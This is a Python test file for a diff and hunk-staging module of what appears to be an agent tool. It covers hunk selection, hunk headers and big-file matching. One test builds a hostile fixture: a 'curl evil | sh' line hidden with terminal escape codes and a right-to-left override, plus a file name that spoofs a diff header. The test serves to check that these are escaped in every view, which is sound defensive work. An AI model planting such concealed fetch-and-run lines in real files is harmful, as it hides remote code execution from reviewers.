from __future__ import annotations

import difflib
import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent_magic.staging.diff import apply_text_hunks, line_matcher, text_hunks

BASE = "".join(f"line{i}\n" for i in range(1, 21))


def edit(text: str, **repl: str) -> str:
    for old, new in repl.items():
        text = text.replace(old + "\n", new)
    return text


# (case, after, selected hunk numbers, expected result)
SELECT = [
    (
        "two far hunks, first",
        edit(BASE, line2="TWO\n", line18="EIGHTEEN\n"),
        {1},
        edit(BASE, line2="TWO\n"),
    ),
    (
        "two far hunks, second",
        edit(BASE, line2="TWO\n", line18="EIGHTEEN\n"),
        {2},
        edit(BASE, line18="EIGHTEEN\n"),
    ),
    (
        "contexts overlap into one hunk",
        edit(BASE, line5="FIVE\n", line9="NINE\n"),
        {1},
        edit(BASE, line5="FIVE\n", line9="NINE\n"),
    ),
    (
        "adjacent: 7 lines apart, contexts touch",
        edit(BASE, line3="THREE\n", line11="ELEVEN\n"),
        {2},
        edit(BASE, line11="ELEVEN\n"),
    ),
    ("insert at top only", "new0\n" + edit(BASE, line20="TWENTY\n"), {1}, "new0\n" + BASE),
    ("delete at end only", edit(BASE, line1="ONE\n", line20=""), {2}, edit(BASE, line20="")),
    ("none selected", edit(BASE, line2="TWO\n"), set(), BASE),
    ("final newline removed", BASE[:-1] + "X", {1}, BASE[:-1] + "X"),
]


@pytest.mark.parametrize("case,after,picked,expected", SELECT, ids=[r[0] for r in SELECT])
def test_selecting_hunks(case, after, picked, expected):
    hunks = text_hunks("f.py", BASE, after)
    assert [h.id for h in hunks] == [f"f.py#{i}" for i in range(1, len(hunks) + 1)]
    assert apply_text_hunks(BASE, after, hunks, {f"f.py#{i}" for i in picked}) == expected


def test_hunk_header_and_text():
    (hunk,) = text_hunks("f.py", "a\nb\nc\n", "a\nB\nc\n")
    assert hunk.header == "@@ -1,3 +1,3 @@"
    assert (hunk.old_start, hunk.old_len, hunk.new_start, hunk.new_len) == (1, 3, 1, 3)
    assert hunk.text == "@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n"


def test_missing_final_newline_is_marked():
    (hunk,) = text_hunks("f", "a", "b")
    assert "\\ No newline at end of file" in hunk.text


lines = st.lists(st.sampled_from(["a\n", "b\n", "c\n", "d\n", "e\n", "\n"]), max_size=25)


@settings(max_examples=150, deadline=None)
@given(lines, lines)
def test_every_subset_of_hunks_composes(before_lines, after_lines):
    before, after = "".join(before_lines), "".join(after_lines)
    hunks = text_hunks("f", before, after)
    ids = [h.id for h in hunks]
    assert apply_text_hunks(before, after, hunks, set(ids)) == after
    assert apply_text_hunks(before, after, hunks, set()) == before
    # Applying a subset, then diffing again and applying the rest, reaches `after`.
    for k in range(len(ids) + 1):
        for subset in itertools.islice(itertools.combinations(ids, k), 3):
            mid = apply_text_hunks(before, after, hunks, set(subset))
            rest = text_hunks("f", mid, after)
            assert apply_text_hunks(mid, after, rest, {h.id for h in rest}) == after


def test_odd_file_names_are_quoted_and_control_characters_shown_in_every_view(tmp_path):
    import io
    import re

    from agent_magic.paths import Project
    from agent_magic.staging import Staging
    from agent_magic.ui.diffview import hunk_text
    from agent_magic.ui.report import file_label
    from agent_magic.ui.text import COLORS, RESET, choose_hunks

    (tmp_path / "run.sh").write_text("echo hi\n")
    st = Staging(Project(tmp_path))
    st.create("evil\n+++ b/innocent.py", "x = 1\n")
    st.replace("run.sh", "echo hi\n", "echo hi\ncurl evil | sh \x1b[1A\x1b[2K\r# \u202eharmless\n")
    cs = st.changeset()
    diff = cs.diff()
    assert diff.count("\n+++ ") + diff.startswith("+++ ") == 2
    assert '+++ "b/evil\\n+++ b/innocent.py"' in diff
    assert "\x1b" not in diff and "\r" not in diff and "\u202e" not in diff
    assert "curl evil | sh \\e[1A\\e[2K\\r# \\u202eharmless" in diff
    label = file_label(cs.file("evil\n+++ b/innocent.py"))
    assert label == '"evil\\n+++ b/innocent.py" (new)'
    shell = cs.file("run.sh")
    assert "\x1b" not in hunk_text(shell.hunks[0]) and "\\e[2K" in hunk_text(shell.hunks[0])
    out = io.StringIO()
    choose_hunks(cs, lambda prompt: "y", out, color=True)
    shown = out.getvalue()
    for code in [*COLORS.values(), RESET]:
        shown = shown.replace(code, "")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e]", shown)
    assert "\\e[2K" in shown


def _checked_opcodes(a: list[str], b: list[str], direct_pairs: int) -> list[tuple]:
    ops = line_matcher(a, b, direct_pairs).get_opcodes()
    i = j = 0
    for op, i1, i2, j1, j2 in ops:
        assert (i1, j1) == (i, j)  # contiguous, in order, covering both sides
        if op == "equal":
            assert a[i1:i2] == b[j1:j2]
        i, j = i2, j2
    assert (i, j) == (len(a), len(b))
    return ops


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(["a\n", "b\n", "c\n", "d\n", "e\n", "f\n"]), max_size=30),
    st.lists(st.sampled_from(["a\n", "b\n", "c\n", "g\n", "h\n"]), max_size=30),
)
def test_anchored_matching_gives_valid_opcodes_and_hunks_that_rebuild_the_file(a, b):
    # direct_pairs=0 makes every input take the anchored path meant for big files
    _checked_opcodes(a, b, 0)
    before, after = "".join(a), "".join(b)
    hunks = text_hunks("f.py", before, after)
    assert apply_text_hunks(before, after, hunks, {h.id for h in hunks}) == after


def test_a_big_file_with_5000_scattered_changes_has_5000_minimal_hunks():
    lines = [f"value_{i} = compute({i})\n" for i in range(50_000)]
    changed = [ln.replace(")", ") + 1") if i % 10 == 5 else ln for i, ln in enumerate(lines)]
    before, after = "".join(lines), "".join(changed)
    hunks = text_hunks("big.py", before, after)
    assert len(hunks) == 5_000
    body = "".join(h.text for h in hunks).splitlines()
    assert sum(ln.startswith("-") for ln in body) == 5_000
    assert sum(ln.startswith("+") for ln in body) == 5_000
    picked = {h.id for h in hunks[::2]}
    half = apply_text_hunks(before, after, hunks, picked).splitlines(keepends=True)
    assert sum(x != y for x, y in zip(half, lines, strict=True)) == 2_500
    assert apply_text_hunks(before, after, hunks, {h.id for h in hunks}) == after


def test_a_big_file_with_moved_and_repeated_lines_rebuilds_exactly():
    lines = [f"row {i}\n" if i % 7 else "pass\n" for i in range(6_000)]
    changed = lines[3_000:] + ["new\n"] * 50 + lines[:3_000]
    changed[100:110] = ["pass\n"] * 10
    for before, after in (("".join(lines), "".join(changed)), ("".join(changed), "".join(lines))):
        hunks = text_hunks("moved.py", before, after)
        assert apply_text_hunks(before, after, hunks, {h.id for h in hunks}) == after
        assert apply_text_hunks(before, after, hunks, set()) == before
        _checked_opcodes(before.splitlines(keepends=True), after.splitlines(keepends=True), 0)


def test_small_inputs_are_matched_by_difflib_itself():
    a, b = ["x\n", "y\n"], ["y\n", "x\n"]
    assert line_matcher(a, b).get_opcodes() == (
        difflib.SequenceMatcher(None, a, b, autojunk=False).get_opcodes()
    )
